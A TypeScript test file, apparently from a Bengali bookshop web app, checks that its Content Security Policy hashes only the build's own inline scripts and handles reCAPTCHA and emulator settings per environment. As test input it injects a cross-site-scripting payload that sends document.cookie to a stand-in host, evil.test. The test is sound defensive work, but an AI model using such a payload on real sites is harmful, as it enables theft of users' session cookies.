import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { contentSecurityPolicy } from '@boi/domain/api/content-security-policy';
import { deferEntry } from './deferred-entry';
import { buildEarlyClicksScript, withEarlyClicks } from './early-clicks';
import { fillTemplate } from './fill-template';
import { pagePolicy } from './page-policy';

const TEMPLATE = withEarlyClicks(
  deferEntry(`<!doctype html>
<html lang="bn">
  <head>
    <script type="module" crossorigin src="/assets/index-abc.js"></script>
    <link rel="modulepreload" crossorigin href="/assets/react-1.js">
    <title>বই — Boi</title>
  </head>
  <body>
    <div id="root"></div>
  </body>
</html>`),
  await buildEarlyClicksScript(),
);

const sha256 = (text: string) => createHash('sha256').update(text).digest('base64');
const inlineScripts = (html: string) =>
  [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((match) => match[1] ?? '');

describe('the page policy of a build', () => {
  // A book description or a review that got past escaping, carrying a script into the page.
  const injected = 'fetch("https://evil.test/?c="+document.cookie)';
  const page = fillTemplate(TEMPLATE, {
    language: 'bn',
    headTags: '',
    preloads: '',
    rootHtml: `<p>বই</p><script>${injected}</script>`,
    globals: { __STATE__: { a: 1 } },
  });
  const policy = pagePolicy(TEMPLATE, {});

  it('hashes every script the build itself puts in a page, and the injected one not', () => {
    const own = inlineScripts(page).filter((script) => script !== injected);
    expect(own).toHaveLength(2); // the entry loader and the early-clicks script
    expect(policy.scriptHashes).toEqual(expect.arrayContaining(own.map(sha256)));
    expect(policy.scriptHashes).not.toContain(sha256(injected));
    expect(contentSecurityPolicy(policy)).not.toContain(sha256(injected));
  });

  it('is the same for every page: nothing in a rendered page changes it', () => {
    expect(pagePolicy(TEMPLATE, {})).toEqual(policy);
  });

  it('allows reCAPTCHA for phone sign-in in any real-project build, and the emulators only for a demo- project', () => {
    expect(policy).toMatchObject({ recaptcha: false, loopback: true });
    // Phone sign-in in a production build without App Check still loads its reCAPTCHA.
    expect(pagePolicy(TEMPLATE, { VITE_FIREBASE_PROJECT_ID: 'boi-shop' }).recaptcha).toBe(true);
    expect(
      pagePolicy(TEMPLATE, { VITE_FIREBASE_PROJECT_ID: 'boi-shop', VITE_APP_CHECK_SITE_KEY: 'k' }),
    ).toMatchObject({ recaptcha: true, loopback: false });
    expect(pagePolicy(TEMPLATE, { VITE_FIREBASE_PROJECT_ID: 'demo-boi' }).loopback).toBe(true);
  });
});
